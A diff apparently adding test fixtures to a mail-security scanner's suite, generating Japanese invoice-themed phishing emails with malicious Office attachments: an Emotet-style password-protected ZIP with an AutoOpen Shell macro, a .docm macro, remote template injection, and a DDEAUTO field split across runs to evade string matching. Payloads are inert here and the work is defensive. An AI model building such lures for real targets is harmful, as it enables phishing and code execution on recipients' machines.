@@ -75,6 +75,11 @@ RTF_EQUATION = "ACTIVE_RTF_EQUATION"
 HTML_FORM = "ACTIVE_HTML_CREDENTIAL_FORM"
 ACTIVE = "attach.active_content"
 ANY_ATTACH = "attach.*"
+MACRO = "OFFICE_MACRO"                    # a VBA project
+MACRO_AUTOEXEC = "OFFICE_MACRO_AUTOEXEC"  # the mraptor rule
+AUTOEXEC_ENCRYPTED = "OFFICE_AUTOEXEC_ENCRYPTED"  # ... in an opened box
+TEMPLATE = "OFFICE_TEMPLATE_INJECTION"
+DDE = "OFFICE_DDE"
 
 MX = "mx.example-corp.test"
 RCPT = "yamada@example-corp.test"
@@ -786,6 +791,120 @@ def html_password_form(n=29):
     return lure(n, "メールボックスの容量", "山田様\n\n容量の上限に達しました。\n"
                 "添付のページからサインインしてください。\n",
                 [attachment(html, "text/html", "Microsoft365.html")])
+
+
+# ---- Office documents ------------------------------------------------------
+
+def gen_office():
+    return load_module("gen-office.py", "gen_office")
+
+
+def docm(module_src):
+    """A Word 2007+ macro document (stored, fixed times) whose
+    word/vbaProject.bin holds MODULE_SRC (tests/gen-office.py's parts)."""
+    g = gen_office()
+    return zip_stored([
+        ("[Content_Types].xml", g.CONTENT_TYPES.encode()),
+        ("_rels/.rels", g.ROOT_RELS.encode()),
+        ("word/document.xml", g.DOCUMENT_XML.encode()),
+        ("word/_rels/document.xml.rels", g.DOC_RELS.encode()),
+        ("word/vbaProject.bin", g.vba_bin(module_src)),
+    ])
+
+
+def docx_with(document_xml, doc_rels):
+    """A Word 2007+ document with DOCUMENT_XML and word/_rels (no macro)."""
+    g = gen_office()
+    ct = g.CONTENT_TYPES.replace("vnd.ms-word.document.macroEnabled.main+xml",
+                                 "vnd.openxmlformats-officedocument."
+                                 "wordprocessingml.document.main+xml")
+    return zip_stored([
+        ("[Content_Types].xml", ct.encode()),
+        ("_rels/.rels", g.ROOT_RELS.encode()),
+        ("word/document.xml", document_xml.encode()),
+        ("word/_rels/document.xml.rels", doc_rels.encode()),
+    ])
+
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OD_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+@fixture(must=[OPENED, MACRO, MACRO_AUTOEXEC, AUTOEXEC_ENCRYPTED],
+         must_not=[ENCRYPTED, UNSCANNABLE], action="quarantine")
+def emotet_doc_in_aes_zip(n=31):
+    """Emotet's classic chain: an AES-256 ZIP whose password is in the
+    body holds a .doc with an AutoOpen macro that calls Shell.  Opened
+    with the body's password, the macro is found and the hiding forces
+    quarantine."""
+    g = gen_office()
+    z = zip_aes256("emotet-doc", [("請求書_20240115.doc",
+                                   g.word_doc(g.AUTOOPEN_SRC))], PW)
+    body = BODY_HEAD + "添付ファイルのパスワード：%s\n" % PW + BODY_TAIL
+    return lure(n, "請求書の送付", body,
+                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
+        ["請求書_20240115.zip"]
+
+
+@fixture(must=[MACRO, MACRO_AUTOEXEC], must_not=[AUTOEXEC_ENCRYPTED],
+         action="quarantine")
+def macro_docm_autoopen(n=32):
+    """A .docm attached as is: vbaProject.bin with AutoOpen + Shell."""
+    g = gen_office()
+    return lure(n, "ご確認ください", BODY_HEAD + BODY_TAIL,
+                [attachment(docm(g.AUTOOPEN_SRC), "application/"
+                            "vnd.ms-word.document.macroEnabled.12",
+                            "見積書.docm")])
+
+
+@fixture(must=[MACRO], must_not=[MACRO_AUTOEXEC, ANY_EXECUTABLE],
+         action="accept")
+def macro_benign_partner(n=33):
+    """A partner's .doc with a macro that only shows a message box:
+    reported, stays accept (macro workbooks are business)."""
+    g = gen_office()
+    return partner(n, "発注書", "山田様\n\n発注書をお送りします。\n佐藤\n",
+                   [attachment(g.word_doc(g.BENIGN_SRC),
+                               "application/msword", "発注書.doc")])
+
+
+@fixture(must=[TEMPLATE], must_not=[MACRO])
+def template_injection_docx(n=34):
+    """A .docx whose settings point at a remote template (the macro is
+    fetched when Word opens it): attachedTemplate, TargetMode External."""
+    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+           '<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>Invoice'
+           '</w:t></w:r></w:p></w:body></w:document>' % W_NS)
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Relationships xmlns="%s"><Relationship Id="rId1" Type="%s/'
+            'attachedTemplate" Target="http://192.0.2.10/templates/'
+            'invoice.dotm" TargetMode="External"/></Relationships>'
+            % (R_NS, OD_REL))
+    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
+                [attachment(docx_with(doc, rels), "application/vnd."
+                            "openxmlformats-officedocument.wordprocessingml."
+                            "document", "請求書.docx")])
+
+
+@fixture(must=[DDE], must_not=[MACRO])
+def dde_docx_split_runs(n=35):
+    """A DDEAUTO field whose instruction is split over three runs, as
+    attackers write it to slip past a plain string search."""
+    run = '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
+    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+           '<w:document xmlns:w="%s"><w:body><w:p>'
+           '<w:r><w:fldChar w:fldCharType="begin"/></w:r>%s%s%s'
+           '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+           '</w:p></w:body></w:document>'
+           % (W_NS, run % " DDE", run % "AUTO c:\\windows\\system32\\"
+              "cmd.exe ", run % '"/c echo test"'))
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            '<Relationships xmlns="%s"></Relationships>' % R_NS)
+    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
+                [attachment(docx_with(doc, rels), "application/vnd."
+                            "openxmlformats-officedocument.wordprocessingml."
+                            "document", "請求書.docx")])
 
 
 # ---- clean control ---------------------------------------------------------
